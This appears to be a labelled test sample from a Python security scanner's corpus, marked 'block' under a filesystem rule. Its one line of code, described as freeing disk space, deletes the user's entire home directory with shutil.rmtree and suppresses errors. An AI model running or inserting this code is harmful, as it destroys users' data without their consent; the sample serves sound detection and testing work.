# pyguard-corpus: verdict=block category=filesystem rules=PG701
# what: "frees disk space" by deleting the whole home directory with shutil.rmtree
import os
import shutil

shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
